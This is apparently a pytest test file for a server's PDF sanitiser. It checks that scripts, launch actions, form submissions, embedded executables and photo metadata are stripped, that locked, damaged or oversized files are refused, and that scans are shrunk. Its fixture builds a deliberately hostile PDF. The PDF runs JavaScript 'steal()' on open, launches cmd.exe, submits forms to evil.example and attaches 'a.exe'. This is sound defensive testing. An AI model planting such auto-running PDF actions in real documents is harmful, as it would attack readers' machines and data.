"""PDF: what phones get shows pages, and does nothing."""

import io
import os
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image, ImageFilter

from server.media.renditions.decoders import pages, paper
from server.media.renditions.decoders.refusing import Refused
from tests.support.cartridges import picture

SECRETS = ("steal()", "evil.example", "cmd.exe", "attached secret")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def saved(pdf: Pdf, **options: Any) -> io.BytesIO:
    body = io.BytesIO()
    pdf.save(body, **options)
    body.seek(0)
    return body


def blank(count: int = 1) -> Pdf:
    pdf = Pdf.new()
    for _ in range(count):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def script(code: str = "steal()") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=code)


def hostile() -> Pdf:
    """All that a reader of PDF could be made to do, in one file."""
    pdf = blank()
    launch = Dictionary(S=Name.Launch, F="cmd.exe", Next=script())
    submit = Dictionary(S=Name.SubmitForm, F="http://evil.example")
    embedded = Stream(pdf, b"attached secret")
    spec = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=embedded))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=pdf.make_indirect(launch))
    good = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI="https://a.uz")
    )
    bad = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI="file://evil.example")
    )
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], A=submit, AA=Dictionary(K=script()))
    file = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    drawn = [pdf.make_indirect(one) for one in (link, good, bad, field, file)]
    pdf.pages[0].obj["/Annots"] = Array(drawn)
    pdf.pages[0].obj["/AA"] = Dictionary(O=script())
    pdf.Root["/OpenAction"] = script()
    pdf.Root["/AA"] = Dictionary(WC=script())
    pdf.Root["/Names"] = Dictionary(
        JavaScript=Dictionary(Names=["run", pdf.make_indirect(script())]),
        EmbeddedFiles=Dictionary(Names=["a.exe", pdf.make_indirect(spec)]),
    )
    pdf.Root["/AcroForm"] = Dictionary(Fields=[drawn[3]], XFA=Stream(pdf, b"<xdp>steal()</xdp>"))
    return pdf


def words_of(path: Path | io.BytesIO) -> str:
    """Everything in it, unpacked."""
    with Pdf.open(path) as pdf:
        plain = saved(pdf, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        packed = [value for value in pdf.objects if isinstance(value, Stream)]
        streams = [value.read_bytes() for value in packed if value.get("/Filter") != Name.DCTDecode]
    return (plain.getvalue() + b"".join(streams)).decode("latin-1")


def test_what_runs_attaches_or_calls_is_gone_and_links_to_the_web_stay(folder: Path) -> None:
    before = folder / "before.pdf"
    before.write_bytes(saved(hostile()).getvalue())
    assert all(secret in words_of(before) for secret in SECRETS)

    with before.open("rb") as stream:
        assert paper.decode(stream)["pages"] == 1

    after = words_of(folder / "small.pdf")
    assert [secret for secret in SECRETS if secret in after] == []
    assert [
        name for name in ("/JavaScript", "/Launch", "/OpenAction", "/EmbeddedFiles", "/AA", "/XFA") if name in after
    ] == []
    assert "https://a.uz" in after


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (saved(blank(), encryption=pikepdf.Encryption(user="secret", owner="secret")).getvalue(), "pdf.encrypted"),
        (b"%PDF-1.7\nnothing", "file.damaged"),
        (saved(blank(1001)).getvalue(), "pdf.too_many_pages"),
        (saved(Pdf.new()).getvalue(), "file.damaged"),
    ],
    ids=["locked", "damaged", "long", "empty"],
)
def test_one_that_we_cannot_show_is_refused(folder: Path, content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        paper.decode(io.BytesIO(content))

    assert refused.value.code == code


def test_one_that_only_forbids_printing_is_taken(folder: Path) -> None:
    locked = saved(blank(), encryption=pikepdf.Encryption(user="", owner="secret"))

    paper.decode(locked)

    with Pdf.open(folder / "small.pdf") as pdf:
        assert not pdf.is_encrypted


def scan(width: int, height: int) -> bytes:
    """A page from a scanner: paper, its grain, and what is written on it."""
    grain = Image.frombytes("L", (width, height), os.urandom(width * height)).filter(ImageFilter.GaussianBlur(2))
    sheet = Image.merge("RGB", [grain.point(lambda tone, add=add: tone // 4 + 180 + add) for add in (10, 5, 0)])
    for line in range(100, height - 100, 60):
        for word in range(100, width - 300, 170):
            sheet.paste((30, 30, 60), (word, line, word + 120, line + 22))
    body = io.BytesIO()
    sheet.save(body, "JPEG", quality=95)
    return body.getvalue()


def test_a_scan_becomes_as_small_as_a_phone_needs_it(folder: Path) -> None:
    pdf = Pdf.new()
    body = scan(2480, 3508)
    page = pdf.add_blank_page(page_size=(595, 842))
    image = Stream(pdf, body, Width=2480, Height=3508, BitsPerComponent=8, Type=Name.XObject, Subtype=Name.Image)
    image["/ColorSpace"], image["/Filter"] = Name.DeviceRGB, Name.DCTDecode
    page.obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(image)))
    page.obj["/Contents"] = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")

    made = paper.decode(saved(pdf))

    assert made["shrunk"] == 1
    assert made["bytes"] < 260_000 < len(body)
    with Pdf.open(folder / "small.pdf") as small:
        drawn = pikepdf.PdfImage(small.pages[0].Resources.XObject["/Im0"]).as_pil_image()
    assert max(drawn.size) >= 1403


def test_a_photo_in_it_does_not_say_where_it_was_taken(folder: Path) -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    photo = picture(200, 150, kind="JPEG", exif=exif, comment=b"SecretWords")
    pdf = Pdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    image = Stream(pdf, photo, Width=200, Height=150, BitsPerComponent=8, Type=Name.XObject, Subtype=Name.Image)
    image["/ColorSpace"], image["/Filter"] = Name.DeviceRGB, Name.DCTDecode
    image["/Metadata"] = pdf.make_stream(b"<x:xmpmeta>SecretAuthor</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)
    page.obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(image)))
    page.obj["/Contents"] = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    pdf.docinfo["/Author"] = "SecretAuthor"
    told = words_of(saved(pdf))
    assert all(f"Secret{what}" in told for what in ("Camera", "Words", "Author"))

    paper.decode(saved(pdf))

    assert "Secret" not in words_of(folder / "small.pdf")
    with Pdf.open(folder / "small.pdf") as small:
        kept = small.pages[0].Resources.XObject["/Im0"]
        assert pikepdf.PdfImage(kept).as_pil_image().tobytes() == Image.open(io.BytesIO(photo)).tobytes()


def test_its_first_page_is_drawn_and_its_words_are_read(folder: Path) -> None:
    pdf = blank()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].obj["/Resources"] = Dictionary(Font=Dictionary(F1=font))
    pdf.pages[0].obj["/Contents"] = pdf.make_stream(b"BT /F1 24 Tf 100 700 Td (Newton was here) Tj ET")

    seen = pages.decode(saved(pdf))

    assert (folder / "text.txt").read_text().strip() == "Newton was here"
    with Image.open(folder / seen["thumb"]["file"]) as thumb:
        assert thumb.width == 640
        assert thumb.convert("L").getextrema()[0] < 128
